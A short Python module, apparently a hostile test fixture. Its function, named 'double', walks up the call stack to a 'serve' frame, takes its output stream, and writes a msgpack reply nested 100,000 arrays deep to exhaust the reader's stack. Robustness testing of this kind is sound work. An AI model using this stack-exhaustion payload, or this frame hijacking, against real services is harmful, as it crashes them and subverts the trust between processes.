"""Sends a list in a list, a hundred thousand times, to exhaust the stack of whoever reads it."""
import sys

import msgspec


def double(x):
    frame = sys._getframe()
    while frame.f_code.co_name != "serve":
        frame = frame.f_back
    far = frame.f_locals
    replies = [{"type": "Answer", "value": None}, {"type": "Answer", "value": "HERE"}]
    payload = msgspec.msgpack.encode({"number": far["question"].number, "replies": replies})
    payload = payload.replace(msgspec.msgpack.encode("HERE"), b"\x91" * 100_000 + b"\xc0")
    far["answers"].write(len(payload).to_bytes(8, "little") + payload)
    far["answers"].flush()
    return 0.0
